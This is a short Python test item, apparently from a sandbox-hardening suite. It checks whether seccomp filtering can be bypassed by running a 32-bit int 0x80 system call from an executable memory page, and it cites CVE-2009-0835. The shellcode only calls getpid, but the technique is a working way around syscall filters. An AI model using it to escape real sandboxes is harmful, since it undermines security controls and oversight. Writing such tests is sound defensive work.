# title: make system calls of the 32-bit table, in which read means another call
# reference: CVE-2009-0835 (seccomp let 32-bit numbers through)
# real: refused: EACCES
# weakened: seccomp, mdwe
# proof: matches: ^[0-9]+$
# needs: x86_64

import ctypes
import mmap


def attack(worker):
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"\xb8\x14\0\0\0\xcd\x80\xc3")  # mov eax, 20 (getpid); int 0x80; ret
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
